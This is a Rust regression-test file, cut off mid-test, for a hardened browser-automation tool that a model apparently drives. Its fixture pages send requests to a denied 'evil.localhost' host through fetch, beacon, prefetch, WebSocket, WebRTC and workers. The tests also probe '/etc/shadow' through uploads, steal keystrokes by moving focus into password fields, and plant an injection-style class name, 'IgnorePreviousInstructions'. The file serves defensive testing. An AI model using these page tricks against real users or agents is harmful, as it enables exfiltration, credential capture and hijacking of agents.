//! What a hostile page tried against a hardened Glass, one regression test per hole (issue 12,
//! part B), each checked on what reached the network, the page or the browser: a server's
//! request log, datagrams counted on a socket, Chrome's own target list.

use crate::common;

use std::net::{TcpListener, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use common::web::{Page, Server};
use common::{Glass, failed, hardened_on, incognito, nav, ok};
use serde_json::{Value, json};

/// The `events.blocked` entries of results.
fn blocked(results: &[&Value]) -> Vec<Value> {
    results
        .iter()
        .flat_map(|r| {
            r["events"]["blocked"]
                .as_array()
                .cloned()
                .unwrap_or_default()
        })
        .collect()
}

/// Part B 2: `--policy-allow-host localhost` allowed `ws://evil.localhost/`; only `*.` rules may
/// reach subdomains, WebSockets included, and the refused socket is reported.
#[test]
fn an_exact_allow_rule_keeps_websockets_off_its_subdomains() {
    let sockets = Server::start(vec![
        ("/ok", Page::status(400)),
        ("/evil", Page::status(400)),
    ]);
    let q = sockets.port;
    let web = Server::start(vec![(
        "/start",
        Page::html(&format!(
            r#"<title>WS</title><script>
            let ended = 0;
            const end = () => {{ if (++ended === 2) document.body.append('both sockets ended'); }};
            for (const url of ['ws://evil.localhost:{q}/evil', 'ws://localhost:{q}/ok']) {{
              const ws = new WebSocket(url);
              ws.onerror = end;
            }}
            </script>"#
        )),
    )]);
    let mut g = hardened_on("localhost");
    let nav = ok(&g.call(
        json!(1),
        "navigate",
        json!({"url": format!("http://localhost:{}/start", web.port), "observe": false}),
    ));
    let waited = ok(&g.call(
        json!(2),
        "wait",
        json!({"kind": "textPresent", "text": "both sockets ended", "timeoutMs": 15000}),
    ));
    let hits = sockets.hits.lock().unwrap().clone();
    assert!(
        hits.contains(&"/ok".to_owned()),
        "the allowed socket never reached its server, so the test proves nothing: {hits:?}"
    );
    assert!(
        !hits.contains(&"/evil".to_owned()),
        "a subdomain of an exact allow rule was reached: {hits:?}"
    );
    let b = blocked(&[&nav, &waited]);
    assert!(
        b.iter()
            .any(|x| x["type"] == "WebSocket" && x["host"] == "evil.localhost"),
        "the refused WebSocket is not reported: {b:?}"
    );
}

/// Datagrams and connections received on 127.0.0.2 while a page gathers ICE candidates
/// against a TURN and a STUN server there.
struct IceTrap {
    port: u16,
    datagrams: Arc<AtomicUsize>,
    connections: Arc<AtomicUsize>,
}

impl IceTrap {
    fn start() -> IceTrap {
        let udp = UdpSocket::bind("127.0.0.2:0").expect("bind 127.0.0.2 (udp)");
        let port = udp.local_addr().unwrap().port();
        let tcp = TcpListener::bind(("127.0.0.2", port)).expect("bind 127.0.0.2 (tcp)");
        let datagrams = Arc::new(AtomicUsize::new(0));
        let connections = Arc::new(AtomicUsize::new(0));
        let d = Arc::clone(&datagrams);
        std::thread::spawn(move || {
            let mut buf = [0u8; 2048];
            while udp.recv_from(&mut buf).is_ok() {
                d.fetch_add(1, Ordering::SeqCst);
            }
        });
        let c = Arc::clone(&connections);
        std::thread::spawn(move || {
            for _ in tcp.incoming().flatten() {
                c.fetch_add(1, Ordering::SeqCst);
            }
        });
        IceTrap {
            port,
            datagrams,
            connections,
        }
    }

    fn page(&self) -> Page {
        let p = self.port;
        Page::html(&format!(
            r#"<title>ICE</title><script>
            const pc = new RTCPeerConnection({{iceServers: [
              {{urls: ['turn:127.0.0.2:{p}?transport=udp', 'turn:127.0.0.2:{p}?transport=tcp'],
                username: 'page-chosen-user', credential: 'x'}},
              {{urls: 'stun:127.0.0.2:{p}'}}]}});
            pc.createDataChannel('d');
            pc.onicegatheringstatechange = () => {{
              if (pc.iceGatheringState === 'complete') document.body.append('gathering complete');
            }};
            pc.createOffer().then(o => pc.setLocalDescription(o));
            </script>"#
        ))
    }

    fn reached(&self) -> (usize, usize) {
        (
            self.datagrams.load(Ordering::SeqCst),
            self.connections.load(Ordering::SeqCst),
        )
    }
}

/// Part B 1: a page's RTCPeerConnection sent UDP to a TURN server on a denied address.
/// Under host rules no datagram (and no TCP connection) reaches it; the same page in a session
/// without host rules does reach it, so the trap is known to catch.
#[test]
fn webrtc_reaches_no_denied_address_under_host_rules() {
    let trap = IceTrap::start();
    let web = Server::start(vec![("/ice", trap.page())]);
    let mut g = hardened_on("127.0.0.1");
    let loaded = nav(&mut g, &web, "/ice");
    // Gathering ends quickly when no UDP may leave; the trap is read after it has.
    let gathered = g.call(
        json!(2),
        "wait",
        json!({"kind": "textPresent", "text": "gathering complete", "timeoutMs": 20000}),
    );
    assert_eq!(
        trap.reached(),
        (0, 0),
        "WebRTC reached a denied address (datagrams, connections)"
    );
    let waited = ok(&gathered);
    // The refused servers are named in the results' blocked events, like refused requests.
    let blocked: Vec<Value> = blocked(&[&loaded, &waited])
        .into_iter()
        .filter(|b| b["type"] == "WebRTC")
        .collect();
    assert!(
        blocked
            .iter()
            .any(|b| b["host"] == "127.0.0.2" && b["reason"] == "hostNotAllowed"),
        "no WebRTC entry in the blocked events: {blocked:?} (results: {loaded} / {waited})"
    );
    drop(g);
    // The same page with no host rules: its STUN/TURN requests arrive (gathering itself then
    // waits on the trap's silence, so the trap is polled instead).
    let mut open = incognito(&[]);
    nav(&mut open, &web, "/ice");
    let end = std::time::Instant::now() + Duration::from_secs(20);
    while trap.reached().0 == 0 && std::time::Instant::now() < end {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        trap.reached().0 > 0,
        "without host rules the page's STUN/TURN traffic should arrive; the trap caught nothing"
    );
}

/// Part B 10: a page whose own script moves the tab to a refused host ends on Chrome's error
/// page; `navigate` says `blocked` (not `loaded`), and the refused host saw nothing.
#[test]
fn a_script_redirect_to_a_refused_host_is_reported_blocked() {
    let outside = Server::start(vec![("/target", Page::html("<p>outside</p>"))]);
    let q = outside.port;
    let web = Server::start(vec![
        (
            "/moves",
            Page::html(&format!(
                r#"<title>Moves</title><script>location.href = 'http://localhost:{q}/target';</script>"#
            )),
        ),
        (
            "/redirect",
            Page::status(302).header("Location", &format!("http://localhost:{q}/target")),
        ),
    ]);
    let mut g = hardened_on("127.0.0.1");
    for (i, path) in ["/moves", "/redirect"].iter().enumerate() {
        let r = failed(&g.call(
            json!(i),
            "navigate",
            json!({"url": web.url(path), "observe": false}),
        ));
        assert_eq!(r["outcome"], "blocked", "{path}: {r}");
        assert_eq!(r["blockedHost"], "localhost", "{path}: {r}");
    }
    assert!(
        outside.hits.lock().unwrap().is_empty(),
        "the refused host was reached"
    );
}

/// Part B 10: `closeTarget` answered before the tab was gone (right after closing 50 tabs,
/// `listTargets` still showed 36). Chrome's own target list is read right after each close.
#[test]
fn close_target_answers_once_the_tab_is_gone() {
    let mut g = incognito(&[]);
    ok(&g.call(
        json!(0),
        "navigate",
        json!({"url": "about:blank", "observe": false}),
    ));
    let mut ids = Vec::new();
    for i in 0..12 {
        let c = ok(&g.call(
            json!(format!("c{i}")),
            "createTarget",
            json!({"url": "about:blank"}),
        ));
        ids.push(c["targetId"].as_str().unwrap().to_owned());
    }
    for (i, id) in ids.iter().enumerate() {
        ok(&g.call(
            json!(format!("x{i}")),
            "closeTarget",
            json!({"targetId": id}),
        ));
        // listTargets reads Chrome's target list afresh (Target.getTargets), not Glass's
        // bookkeeping.
        let listed = ok(&g.call(json!(format!("l{i}")), "listTargets", json!({})));
        let text = listed.to_string();
        assert!(
            !text.contains(id.as_str()),
            "tab {i} still listed right after closeTarget answered: {listed}"
        );
    }
}

/// Part B 7: a hardened upload answered differently for `/etc/shadow`, `/etc` and a missing
/// file, so a page's instructions could probe the local disk. The policy answers first, the
/// same for all.
#[test]
fn a_denied_upload_does_not_reveal_which_local_files_exist() {
    let mut g = hardened_on("127.0.0.1");
    let answers: Vec<Value> = ["/etc/shadow", "/etc", "/no/such/file", "/etc/hostname"]
        .iter()
        .enumerate()
        .map(|(i, f)| {
            let mut e = failed(&g.call(
                json!(i),
                "upload",
                json!({"target": "css=input", "files": [f]}),
            ));
            // Each call has its own journal entry; everything else must be the same.
            e.as_object_mut().unwrap().remove("executionId");
            e
        })
        .collect();
    assert_eq!(answers[0]["kind"], "policy", "{}", answers[0]);
    assert_eq!(answers[0]["decision"], "deny", "{}", answers[0]);
    for a in &answers[1..] {
        assert_eq!(a, &answers[0], "the answers tell files apart");
    }
}

/// A login form whose name field hands focus to the password field on the first key, as a
/// page stealing typed text would.
fn login_page() -> Server {
    Server::start(vec![(
        "/login",
        Page::html(
            r#"<title>Login</title>
            <input id="name" aria-label="Name">
            <input id="pw" type="password" aria-label="Password">
            <input id="trap" aria-label="Trap">
            <script>
            document.getElementById('trap').addEventListener('keydown', () => document.getElementById('pw').focus());
            </script>"#,
        ),
    )])
}

/// The password field's length and the trap field's value, read in the page.
fn fields(g: &mut Glass) -> (u64, String) {
    let v = common::eval(
        g,
        "[document.getElementById('pw').value.length, document.getElementById('trap').value]",
    );
    (v[0].as_u64().unwrap(), v[1].as_str().unwrap().to_owned())
}

/// Part B 3: `key`, `keyDown` and `shortcut` typed into a password field with no
/// confirmation; the rule now follows the focused element for every tool that sends keys.
#[test]
fn every_key_tool_asks_before_typing_into_a_password_field() {
    let web = login_page();
    let mut g = incognito(&[]);
    nav(&mut g, &web, "/login");
    let calls = [
        ("key", json!({"key": "a", "target": "css=#pw"})),
        ("keyDown", json!({"key": "b", "target": "css=#pw"})),
        ("shortcut", json!({"keys": "Shift+C", "target": "css=#pw"})),
        // Focus is already in the password field: no target needed to reach it.
        ("key", json!({"key": "d"})),
    ];
    for (i, (tool, args)) in calls.iter().enumerate() {
        let e = failed(&g.call(json!(i), tool, args.clone()));
        assert_eq!(e["kind"], "confirmationRequired", "{tool}: {e}");
        assert_eq!(fields(&mut g).0, 0, "{tool} reached the password field");
    }
    // Keys that type nothing need no confirmation.
    ok(&g.call(json!(10), "key", json!({"key": "Tab", "target": "css=#pw"})));
    // Confirmed, the key goes in.
    let e = failed(&g.call(json!(11), "key", json!({"key": "e", "target": "css=#pw"})));
    let token = e["confirmToken"].as_str().unwrap();
    ok(&g.call(
        json!(12),
        "key",
        json!({"key": "e", "target": "css=#pw", "confirmToken": token}),
    ));
    assert_eq!(fields(&mut g).0, 1, "the confirmed key did not arrive");
}

/// Part B 3: a page that moves focus into a password field while `type` sends its keys
/// received the text while `type` answered `ok`. The keys from the move on are withheld and
/// `type` fails; the same holds for `fillForm`.
#[test]
fn typing_stops_when_the_page_moves_focus_into_a_password_field() {
    let web = login_page();
    let mut g = incognito(&[]);
    nav(&mut g, &web, "/login");
    let e = failed(&g.call(
        json!(1),
        "type",
        json!({"target": "css=#trap", "text": "hunter2"}),
    ));
    assert_eq!(e["failureKind"], "focusMovedToPassword", "{e}");
    assert_eq!(fields(&mut g), (0, String::new()), "text reached a field");
    let e = failed(&g.call(
        json!(2),
        "fillForm",
        json!({"fields": [{"target": "css=#name", "value": "me"}, {"target": "css=#trap", "value": "hunter2"}]}),
    ));
    assert_eq!(e["failureKind"], "focusMovedToPassword", "{e}");
    assert_eq!(
        fields(&mut g).0,
        0,
        "fillForm's text reached the password field"
    );
    // A field that keeps focus is typed into as before.
    ok(&g.call(
        json!(3),
        "type",
        json!({"target": "css=#name", "text": "me"}),
    ));
    let name = common::eval(&mut g, "document.getElementById('name').value");
    assert_eq!(name, "meme");
}

/// Part B 6: a page-defined exception class reached the model by name (and could echo the
/// evaluated source's names); only the built-in classes are named. fillForm's candidates
/// (page text) are labelled untrusted.
#[test]
fn page_chosen_names_are_withheld_or_labelled() {
    let web = Server::start(vec![(
        "/f",
        Page::html(
            r#"<title>F</title><button>Go</button><button>Go</button>
            <script>class IgnorePreviousInstructions extends Error {}
            window.hostile = () => { throw new IgnorePreviousInstructions('x'); };</script>"#,
        ),
    )]);
    let mut g = incognito(&[]);
    nav(&mut g, &web, "/f");
    let e = failed(&g.call(json!(1), "evaluate", json!({"expression": "hostile()"})));
    assert_eq!(e["exception"], "Error", "{e}");
    assert!(!e.to_string().contains("IgnorePrevious"), "{e}");
    let e = failed(&g.call(json!(2), "evaluate", json!({"expression": "null.x"})));
    assert_eq!(e["exception"], "TypeError", "{e}");
    let e = failed(&g.call(
        json!(3),
        "fillForm",
        json!({"fields": [{"target": "role=button;name=Go", "value": "x"}]}),
    ));
    assert!(e.to_string().contains("candidates"), "{e}");
    assert!(
        e["untrustedFields"]
            .as_array()
            .unwrap()
            .contains(&json!("fields")),
        "{e}"
    );
}

/// Part B 9: a confirmation token still worked after the tab went to another page, and
/// summaries never named where an action goes. Tokens are bound to the page; summaries name
/// the host or directory. The page's own upload counter shows nothing was handed over.
#[test]
fn a_token_dies_with_its_page_and_summaries_name_the_destination() {
    let page = |title: &str| {
        Page::html(&format!(
            r#"<title>{title}</title><input type="file" aria-label="File"
            onchange="document.title = 'got ' + this.files.length">"#
        ))
    };
    let web = Server::start(vec![("/a", page("A")), ("/b", page("B"))]);
    let file = common::temp_dir("token-page").join("f.txt");
    std::fs::write(&file, "x").unwrap();
    let mut g = incognito(&["--policy-confirm", "navigate"]);
    // navigate asks first, naming the host.
    let e = failed(&g.call(
        json!(1),
        "navigate",
        json!({"url": web.url("/a"), "observe": false}),
    ));
    assert_eq!(e["kind"], "confirmationRequired", "{e}");
    assert_eq!(e["summary"], "open 127.0.0.1 in the selected page", "{e}");
    let token = e["confirmToken"].as_str().unwrap();
    ok(&g.call(
        json!(2),
        "navigate",
        json!({"url": web.url("/a"), "observe": false, "confirmToken": token}),
    ));
    let upload = json!({"target": "name=File", "files": [file.to_str().unwrap()]});
    let e = failed(&g.call(json!(3), "upload", upload.clone()));
    let token = e["confirmToken"].as_str().unwrap().to_owned();
    // The tab moves on to another page; the token issued on /a is refused there.
    let e = failed(&g.call(
        json!(4),
        "navigate",
        json!({"url": web.url("/b"), "observe": false}),
    ));
    let nav_token = e["confirmToken"].as_str().unwrap();
    ok(&g.call(
        json!(5),
        "navigate",
        json!({"url": web.url("/b"), "observe": false, "confirmToken": nav_token}),
    ));
    let mut spent = upload.clone();
    spent["confirmToken"] = json!(token);
    let e = failed(&g.call(json!(6), "upload", spent));
    assert_eq!(e["failureKind"], "tokenMismatch", "{e}");
    let title = ok(&g.call(json!(7), "observe", json!({"level": "summary"})))["title"].clone();
    assert_eq!(title, "B", "the page received files");
    // A download's summary names its directory.
    let dir = common::temp_dir("token-dl");
    let e = failed(&g.call(
        json!(8),
        "download",
        json!({"directory": dir.to_str().unwrap()}),
    ));
    assert_eq!(
        e["summary"],
        format!("save the next download of the page into {}", dir.display()),
        "{e}"
    );
}

/// The files in a Glass process's download staging folder (inside its throwaway profile).
fn staged_files(g: &Glass) -> Vec<String> {
    let prefix = format!("glass-incognito-{}-", g.child.id());
    let mut out = Vec::new();
    for entry in std::fs::read_dir(std::env::temp_dir()).unwrap().flatten() {
        if !entry.file_name().to_string_lossy().starts_with(&prefix) {
            continue;
        }
        if let Ok(files) = std::fs::read_dir(entry.path().join("glass-downloads")) {
            out.extend(
                files
                    .flatten()
                    .map(|f| f.file_name().to_string_lossy().into_owned()),
            );
        }
    }
    out
}

/// A page offering a 3 MiB attachment.
fn big_download() -> Server {
    let big = Page {
        status: 200,
        content_type: "application/octet-stream",
        body: vec![7u8; 3 * 1024 * 1024],
        headers: vec![(
            "Content-Disposition".into(),
            "attachment; filename=\"big.bin\"".into(),
        )],
        delay: Duration::ZERO,
        pause: None,
    };
    Server::start(vec![
        ("/big", big),
        (
            "/offer",
            Page::html(r#"<title>Offer</title><a href="/big">Get it</a>"#),
        ),
    ])
}

/// Part B 5: a page wrote 512 MiB to disk while downloads were denied, and `download` read a
/// whole file into memory. Denied means Chrome refuses the download; allowed downloads stop at
/// `--download-max-mb` with their partial file deleted (checked on the staging folder).
#[test]
fn downloads_are_refused_by_chrome_when_denied_and_capped_when_allowed() {
    let web = big_download();
    let mut g = hardened_on("127.0.0.1");
    nav(&mut g, &web, "/offer");
    ok(&g.call(json!(2), "click", json!({"target": "text=Get it"})));
    let end = std::time::Instant::now() + Duration::from_secs(20);
    while !web.hits.lock().unwrap().contains(&"/big".to_owned()) {
        assert!(
            std::time::Instant::now() < end,
            "the download was never requested"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    ok(&g.call(
        json!(3),
        "wait",
        json!({"kind": "networkIdle", "timeoutMs": 20000}),
    ));
    assert_eq!(
        staged_files(&g),
        Vec::<String>::new(),
        "a denied download reached the disk"
    );
    drop(g);

    let dir = common::temp_dir("capped");
    let mut g = incognito(&["--policy-allow", "download", "--download-max-mb", "1"]);
    nav(&mut g, &web, "/offer");
    ok(&g.call(json!(5), "click", json!({"target": "text=Get it"})));
    let e = failed(&g.call(
        json!(6),
        "download",
        json!({"directory": dir.to_str().unwrap(), "timeoutMs": 20000}),
    ));
    assert_eq!(e["failureKind"], "tooLarge", "{e}");
    assert_eq!(
        std::fs::read_dir(&dir).unwrap().count(),
        0,
        "a capped download was saved"
    );
    // Chrome deletes the cancelled download's partial file.
    let end = std::time::Instant::now() + Duration::from_secs(10);
    while !staged_files(&g).is_empty() {
        assert!(
            std::time::Instant::now() < end,
            "the partial file stayed: {:?}",
            staged_files(&g)
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Part B 4: after a button opened 20 alerts in a row, the second `acceptDialog` said
/// `noDialog` while an alert was open, and the next call hung. Each dialog is tracked and
/// accepted in turn; the page's own counter shows all twenty ran, and no call hangs.
#[test]
fn back_to_back_dialogs_are_accepted_one_by_one() {
    let web = Server::start(vec![(
        "/many",
        Page::html(
            r#"<title>Many</title><button onclick="
              for (let i = 1; i <= 20; i++) { alert('alert ' + i); window.shown = i; }
              document.title = 'shown ' + window.shown;">Twenty</button>"#,
        ),
    )]);
    let mut g = incognito(&[]);
    nav(&mut g, &web, "/many");
    let click = ok(&g.call(
        json!(1),
        "click",
        json!({"target": "role=button;name=Twenty"}),
    ));
    assert_eq!(click["caused"]["dialog"]["message"], "alert 1", "{click}");
    for i in 1..=20 {
        let a = ok(&g.call(json!(format!("a{i}")), "acceptDialog", json!({})));
        assert_eq!(a["dialog"]["type"], "alert", "{a}");
        // The page's script went on to the next alert: the answer says so.
        if i < 20 {
            let next = format!("alert {}", i + 1);
            assert_eq!(a["caused"]["dialog"]["message"], next.as_str(), "{a}");
        }
    }
    let e = failed(&g.call(json!(2), "acceptDialog", json!({})));
    assert_eq!(e["kind"], "noDialog", "{e}");
    // The page ran to the end of its loop: its title says so.
    let o = ok(&g.call(json!(3), "observe", json!({"level": "summary"})));
    assert_eq!(o["title"], "shown 20", "{o}");
}

/// A confirmed delete whose row the page animates away after the dialog closed (TiddlyWiki
/// removes a tiddler so): `acceptDialog` waits for the page as a click does, and its
/// `changes` name the row removed (before, the answer came back first and said nothing
/// changed). A dismissed one keeps its row. Checked on the page's own list.
#[test]
fn what_the_page_does_after_a_confirm_is_the_answers_change() {
    let web = Server::start(vec![(
        "/rows",
        Page::html(
            r#"<title>Rows</title><ul><li id="a">Row A <button onclick="ask(this)">Delete A</button></li>
            <li id="b">Row B <button onclick="ask(this)">Delete B</button></li></ul>
            <script>function ask(b) { if (!confirm('Delete?')) return; const row = b.closest('li');
              setTimeout(() => { row.addEventListener('transitionend', () => row.remove());
                row.style.transition = 'opacity 150ms'; row.style.opacity = '0'; }, 0); }</script>"#,
        ),
    )]);
    let mut g = incognito(&[]);
    nav(&mut g, &web, "/rows");
    let page = ok(&g.call(json!(0), "observe", json!({})));
    assert!(page.to_string().contains(r#""name":"Delete A""#), "{page}");
    for (button, accept) in [("Delete B", false), ("Delete A", true)] {
        let click = ok(&g.call(
            json!(1),
            "click",
            json!({"target": format!("role=button;name={button}")}),
        ));
        assert_eq!(click["caused"]["dialog"]["type"], "confirm", "{click}");
        let tool = if accept {
            "acceptDialog"
        } else {
            "dismissDialog"
        };
        let answer = ok(&g.call(json!(2), tool, json!({})));
        let removed = &answer["changes"]["removed"];
        assert_eq!(
            removed.as_array().map(Vec::len).unwrap_or(0),
            usize::from(accept),
            "{answer}"
        );
    }
    let left = common::eval(
        &mut g,
        "[...document.querySelectorAll('li')].map((l) => l.id)",
    );
    assert_eq!(left, json!(["b"]));
}

/// Part B 8: a `while(true){}` page made calls time out after 3 to 15 s and `navigate` could
/// not leave it; an out-of-memory crash was reported as a 15 s `timeout`. Both are reported by
/// name, and `navigate` gives the tab a new renderer (the new page's own script runs).
#[test]
fn a_stuck_or_crashed_renderer_is_named_and_navigate_recovers() {
    let web = Server::start(vec![
        (
            "/stuck",
            Page::html(r#"<title>Stuck</title><button onclick="while (true) {}">Freeze</button>"#),
        ),
        (
            "/fine",
            Page::html(r#"<title>Fine</title><script>document.title = 'Fine ran';</script>"#),
        ),
    ]);
    let mut g = incognito(&[]);
    nav(&mut g, &web, "/stuck");
    let e = failed(&g.call(
        json!(1),
        "click",
        json!({"target": "role=button;name=Freeze"}),
    ));
    assert_eq!(e["failureKind"], "rendererHung", "{e}");
    // Every page tool now says so at once, instead of waiting on the stuck page.
    let e = failed(&g.call(json!(2), "observe", json!({})));
    assert_eq!(e["failureKind"], "rendererHung", "{e}");
    // navigate replaces the renderer: the new page's script ran.
    let n = nav(&mut g, &web, "/fine");
    assert_eq!(n["title"], "Fine ran", "{n}");
    assert_eq!(common::eval(&mut g, "1 + 1"), 2);
    // A renderer killed as the out-of-memory killer kills it is named as crashed, at once.
    let killed = kill_renderers(g.child.id());
    assert!(killed > 0, "no renderer process found to kill");
    let mut e = Value::Null;
    for i in 0..50 {
        let r = g.call(
            json!(format!("o{i}")),
            "observe",
            json!({"level": "summary"}),
        );
        if r["result"]["isError"] == true {
            e = common::tool_json(&r);
            break;
        }
    }
    assert_eq!(e["failureKind"], "rendererCrashed", "{e}");
    let n = nav(&mut g, &web, "/fine");
    assert_eq!(n["title"], "Fine ran", "{n}");
}

/// SIGKILL every renderer process under the Glass process `glass`; how many were killed.
fn kill_renderers(glass: u32) -> usize {
    let parent_of = |pid: u32| -> Option<u32> {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        // The fields after the command name, which is in parentheses.
        stat[stat.rfind(')')? + 2..].split(' ').nth(1)?.parse().ok()
    };
    let descends = |mut pid: u32| {
        for _ in 0..16 {
            match parent_of(pid) {
                Some(p) if p == glass => return true,
                Some(p) if p > 1 => pid = p,
                _ => return false,
            }
        }
        false
    };
    let mut killed = 0;
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&cmdline).contains("--type=renderer") && descends(pid) {
            let status = std::process::Command::new("kill")
                .args(["-KILL", &pid.to_string()])
                .status();
            if status.is_ok_and(|s| s.success()) {
                killed += 1;
            }
        }
    }
    killed
}

/// A page whose secret fields hide from scripts: a password field inside a closed shadow
/// root (the page keeps its own handle to read it), and fields that are passwords in all but
/// `type`.
fn sealed_secrets_page() -> Server {
    Server::start(vec![(
        "/sealed",
        Page::html(
            r#"<title>Sealed</title>
            <div id="host"></div>
            <input id="otp" aria-label="Code" autocomplete="one-time-code">
            <input id="masked" aria-label="Secret" style="-webkit-text-security: disc">
            <label>Password <input id="named" type="text"></label>
            <input id="plain" aria-label="Plain">
            <input id="mover" aria-label="Mover">
            <script>
              const root = document.getElementById('host').attachShadow({mode: 'closed', delegatesFocus: true});
              root.innerHTML = '<input type="password" aria-label="Pin">';
              window.pw = root.querySelector('input');
              // After two characters, the page moves focus into the sealed password field.
              document.getElementById('mover').addEventListener('input', (e) => {
                if (e.target.value.length === 2) window.pw.focus();
              });
            </script>"#,
        ),
    )])
}

/// Part B 3 (#26): `key`, `keyDown` and `shortcut` typed into a password field inside a closed
/// shadow root without confirmation (the page's scripts, Glass's included, cannot see in), and
/// `type` into a field the page moved focus from into it; so did fields that are passwords in
/// all but `type`. Chrome's DOM domain sees closed
/// roots, so the rule asks it; every field is checked empty in the page itself.
#[test]
fn password_fields_the_page_hides_or_disguises_ask_before_any_key() {
    let web = sealed_secrets_page();
    let mut g = incognito(&[]);
    nav(&mut g, &web, "/sealed");
    let read = |g: &mut Glass| {
        common::eval(
            g,
            "[window.pw.value, otp.value, masked.value, named.value, plain.value].join('|')",
        )
    };
    // Focus inside the closed root: keys with no target reach the field the page focused.
    common::eval(&mut g, "window.pw.focus(), 1");
    for (i, (tool, args)) in [
        ("key", json!({"key": "a"})),
        ("keyDown", json!({"key": "b"})),
        ("shortcut", json!({"keys": "Shift+C"})),
    ]
    .iter()
    .enumerate()
    {
        let e = failed(&g.call(json!(i), tool, args.clone()));
        assert_eq!(e["kind"], "confirmationRequired", "{tool}: {e}");
        assert_eq!(read(&mut g), "||||", "{tool} reached a field");
    }
    for (i, field) in ["#otp", "#masked", "#named"].iter().enumerate() {
        let e = failed(&g.call(
            json!(10 + i),
            "type",
            json!({"target": format!("css={field}"), "text": "xYw"}),
        ));
        assert_eq!(e["kind"], "confirmationRequired", "{field}: {e}");
    }
    assert_eq!(read(&mut g), "||||");
    // A plain field is typed into at once, and so is a plain one the page left focused.
    ok(&g.call(
        json!(20),
        "type",
        json!({"target": "css=#plain", "text": "ok"}),
    ));
    assert_eq!(read(&mut g), "||||ok");
    // The page moving focus into the sealed field while keys go out stops them there.
    let e = failed(&g.call(
        json!(21),
        "type",
        json!({"target": "css=#mover", "text": "abcdef"}),
    ));
    assert_eq!(e["failureKind"], "focusMovedToPassword", "{e}");
    assert_eq!(
        read(&mut g),
        "||||ok",
        "keys reached the sealed password field"
    );
    // Confirmed, the key reaches the sealed field.
    common::eval(&mut g, "window.pw.focus(), 1");
    let e = failed(&g.call(json!(22), "key", json!({"key": "z"})));
    let token = e["confirmToken"].as_str().unwrap().to_owned();
    ok(&g.call(json!(23), "key", json!({"key": "z", "confirmToken": token})));
    assert_eq!(read(&mut g), "z||||ok");
}

/// #26 Part B 12: `navigate` off a page whose script never ends, before the hang was noticed
/// (the monitor takes seconds), waited its whole timeout behind the script. The page being
/// left is asked once; a renderer that does not answer is replaced and the new page loads (its
/// own script runs), well within the navigation's own deadline.
#[test]
fn navigate_leaves_a_page_whose_script_never_ends_at_once() {
    let web = Server::start(vec![
        (
            "/spin",
            Page::html(
                r#"<title>Spin</title><script>setTimeout(() => { while (true) {} }, 0);</script>"#,
            ),
        ),
        (
            "/fine",
            Page::html(r#"<title>Fine</title><script>document.title = 'Fine ran';</script>"#),
        ),
    ]);
    let mut g = incognito(&[]);
    // Its load may never finish: the script spins from the start. Whatever it answers, the
    // next navigate must not wait behind it.
    let first = g.call(
        json!(1),
        "navigate",
        json!({"url": web.url("/spin"), "observe": false, "timeoutMs": 3000}),
    );
    assert!(first["result"].is_object(), "{first}");
    let n = ok(&g.call(
        json!(2),
        "navigate",
        json!({"url": web.url("/fine"), "observe": false, "timeoutMs": 4000}),
    ));
    assert_eq!(
        (n["outcome"].as_str(), n["title"].as_str()),
        (Some("loaded"), Some("Fine ran")),
        "{n}"
    );
    assert_eq!(web.count("/fine"), 1);
}

/// #27 item 4: a model could not tell before typing that a field would ask for a
/// confirmation. An observation marks every secret field (`password: true`) by the same rule the
/// confirmation uses, and no other field.
#[test]
fn observations_mark_the_fields_a_password_rule_guards() {
    let web = sealed_secrets_page();
    let mut g = incognito(&[]);
    nav(&mut g, &web, "/sealed");
    let o = common::observe(&mut g, json!({}));
    let marked: Vec<String> = common::all_elements(&o["elements"])
        .iter()
        .filter(|e| e["password"] == true)
        .map(|e| e["name"].as_str().unwrap_or("").to_owned())
        .collect();
    assert_eq!(marked, ["Code", "Secret", "Password"], "{o}");
}

/// Issue 28: the host rules hold for every context a page can send from and every way it can
/// send, not only for the page's own documents and fetches. The page (on 127.0.0.1) and a
/// cross-site frame (on localhost, so Chrome gives it a process of its own) are allowed; from
/// the page, the frame, a dedicated worker and a service worker, and by image, fetch, beacon and
/// prefetch, each reaches for `evil.localhost`, which is not. Checked on the denied server's own
/// request log: nothing arrives; and on the allowed one: every context did run (each fetched an
/// allowed path too).
#[test]
fn host_rules_hold_in_frames_workers_service_workers_beacons_and_prefetch() {
    let denied = Server::start(vec![]);
    let q = denied.port;
    let evil = |path: &str| format!("http://evil.localhost:{q}/{path}");
    let allowed = Server::start(vec![]);
    let p = allowed.port;
    let js = |body: String| {
        let mut page = Page::html(&body);
        page.content_type = "text/javascript";
        page
    };
    allowed.set(
        "/start",
        Page::html(&format!(
            r#"<title>Ways out</title>
            <link rel="prefetch" href="{prefetch}">
            <iframe src="http://localhost:{p}/frame"></iframe>
            <script>
            const done = new Set();
            const mark = (what) => {{ done.add(what); if (done.size === 4) document.body.append('every context tried'); }};
            addEventListener('message', (e) => mark(e.data));
            fetch('{page_fetch}').catch(() => {{}}).finally(() => fetch('/ok-page').finally(() => mark('page')));
            navigator.sendBeacon('{beacon}', 'x');
            const w = new Worker('/worker.js');
            w.onmessage = (e) => mark(e.data);
            navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)
              .then(() => new Promise((r) => {{ navigator.serviceWorker.onmessage = (e) => r(e.data); navigator.serviceWorker.ready.then((reg) => reg.active.postMessage('go')); }}))
              .then(mark, () => mark('service worker failed'));
            </script>"#,
            prefetch = evil("prefetch"),
            page_fetch = evil("from-page"),
            beacon = evil("beacon"),
        )),
    );
    allowed.set(
        "/frame",
        Page::html(&format!(
            r#"<img src="{img}"><script>
            fetch('{frame_fetch}').catch(() => {{}}).finally(() => fetch('/ok-frame').finally(() => parent.postMessage('frame', '*')));
            </script>"#,
            img = evil("from-frame-img"),
            frame_fetch = evil("from-frame"),
        )),
    );
    allowed.set(
        "/worker.js",
        js(format!(
            "const x = new XMLHttpRequest(); x.open('GET', '{}'); \
             x.onloadend = () => fetch('/ok-worker').finally(() => postMessage('worker')); x.send();",
            evil("from-worker")
        )),
